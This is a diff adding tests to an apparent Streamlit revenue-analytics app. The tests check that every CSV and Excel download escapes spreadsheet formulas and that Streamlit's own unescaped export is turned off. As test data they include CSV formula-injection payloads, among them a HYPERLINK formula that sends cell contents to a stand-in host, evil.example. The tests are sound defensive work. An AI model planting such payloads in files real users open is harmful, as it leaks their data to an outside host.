@@ -2,6 +2,9 @@
 
 import csv
 import io
+import re
+import tomllib
+from pathlib import Path
 
 import numpy as np
 import pandas as pd
@@ -176,3 +179,127 @@ def test_no_excel_text_cell_starts_a_formula(df):
         if isinstance(name.value, str):
             assert not _starts_formula(name.value)
         assert mrr.value == pytest.approx(value)
+
+
+# --- every download the app offers goes through the safe export -----------------------------------
+
+APP = Path(__file__).resolve().parents[1]
+PAGE_SCRIPTS = ["app.py", *sorted(f"pages/{p.name}" for p in (APP / "pages").glob("*.py"))]
+
+
+def test_no_download_bypasses_the_safe_export():
+    """Only ui/tables.py draws download buttons, and only ui/export.py writes CSV or Excel: a
+    new st.download_button or to_csv elsewhere in the app would skip the formula guard."""
+    offenders = []
+    for path in [APP / "app.py", *(APP / "pages").glob("*.py"), *(APP / "ui").glob("*.py")]:
+        rel = path.relative_to(APP).as_posix()
+        source = path.read_text(encoding="utf-8")
+        for pattern, allowed in [
+            (r"\bdownload_button\s*\(", {"ui/tables.py"}),
+            (r"\.to_csv\s*\(|\.to_excel\s*\(|\bExcelWriter\b|\bxlsxwriter\b", {"ui/export.py"}),
+        ]:
+            if rel not in allowed and re.search(pattern, source):
+                offenders.append(f"{rel}: {pattern}")
+    assert offenders == []
+    tables = (APP / "ui" / "tables.py").read_text(encoding="utf-8")
+    assert "to_csv_bytes(" in tables and "to_excel_bytes(" in tables
+
+
+def test_streamlit_own_table_download_is_off():
+    """st.dataframe's built-in "Download as CSV" writes cells unescaped (checked in Streamlit's
+    frontend): the app's config turns it off, leaving only the safe buttons."""
+    config = tomllib.loads((APP / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
+    assert config["client"]["disableDataExport"] is True
+
+
+def _hostile_sample():
+    """The bundled sample with every text a spreadsheet could run: ids, plans, segments."""
+    import mrrkit
+
+    lines = mrrkit.load_sample()
+    return lines.assign(
+        customer_id="=HYPERLINK(\"http://evil.example?\"&A1)" + lines["customer_id"],
+        plan="@" + lines["plan"],
+        industry="-" + lines["industry"],
+        channel="+" + lines["channel"],
+        country="\t=" + lines["country"],
+        churn_reason=("\r=" + lines["churn_reason"]).where(lines["churn_reason"].notna()),
+    )
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def _cells(data: bytes, file_name: str) -> tuple[list[str], list[object]]:
+    """(header cells, text cells) of a downloaded CSV or Excel file, as written; CSV cells that
+    are plain numbers (a spreadsheet reads "-12.5" as a number, not a formula) left out."""
+    if file_name.endswith(".csv"):
+        rows = _csv_rows(data)
+        return rows[0], [cell for row in rows[1:] for cell in row if not _is_number(cell)]
+    sheet = load_workbook(io.BytesIO(data)).active
+    rows = list(sheet.iter_rows())
+    assert all(cell.data_type != "f" for row in rows for cell in row), file_name
+    return [c.value for c in rows[0]], [c.value for row in rows[1:] for c in row]
+
+
+# Pages whose downloads hold numbers by month only (nothing from the data) in their default view.
+TEXT_FREE = {"pages/2_Cohorts.py", "pages/5_Scenarios.py"}
+
+
+# A canonical export whose ids, plans and even a rejected row's raw values are formulas.
+HOSTILE_FILE = (
+    "customer_id,start,end,mrr,plan\n"
+    '"=HYPERLINK(""http://evil.example?""&A1)",2024-01-01,,10,@plan\n'
+    "+acme,2024-02-01,2024-06-01,20,-pro\n"
+    "@boss,=1+1,,30,=basic\n"  # a start date that is a formula: rejected, raw value kept
+).encode()
+DATA_PAGE = "pages/0_Data.py"
+
+
+@pytest.mark.parametrize("script", PAGE_SCRIPTS)
+def test_every_download_of_every_page_is_formula_safe(script, monkeypatch, tmp_path):
+    from streamlit.delta_generator import DeltaGenerator
+    from streamlit.testing.v1 import AppTest
+
+    from ui.data import upload_source
+
+    monkeypatch.delenv("MRRKIT_PASSWORD", raising=False)
+    monkeypatch.delenv("MRRKIT_PASSWORD_HASH", raising=False)
+    monkeypatch.setenv("MRRKIT_VIEWS_DIR", str(tmp_path / "views"))
+    offered = []
+    real = DeltaGenerator.download_button
+
+    def spy(self, label, data, file_name=None, *args, **kwargs):
+        offered.append((file_name, data))
+        return real(self, label, data, file_name, *args, **kwargs)
+
+    monkeypatch.setattr(DeltaGenerator, "download_button", spy)
+    at = AppTest.from_file(str(APP / "app.py"), default_timeout=120)
+    at.secrets["_isolated"] = True
+    if script != "app.py":
+        at.switch_page(script)
+    if script == DATA_PAGE:
+        at.run()
+        at.file_uploader(key="data.export").set_value(("hostile.csv", HOSTILE_FILE, "text/csv"))
+    else:
+        at.session_state["source"] = upload_source("hostile.csv", _hostile_sample(), "EUR")
+    at.run()
+    assert not at.exception, [e.value for e in at.exception]
+    if script == "app.py":
+        assert offered == []  # the overview has no table
+        return
+    assert offered, f"{script} offers no download"
+    hostile = 0
+    for file_name, data in offered:
+        content = data() if callable(data) else data
+        header, cells = _cells(content, file_name)
+        for cell in [*header, *cells]:
+            if isinstance(cell, str):
+                assert not _starts_formula(cell), (file_name, cell)
+                hostile += cell.startswith("'")
+    assert hostile or script in TEXT_FREE, f"no hostile text reached the downloads of {script}"
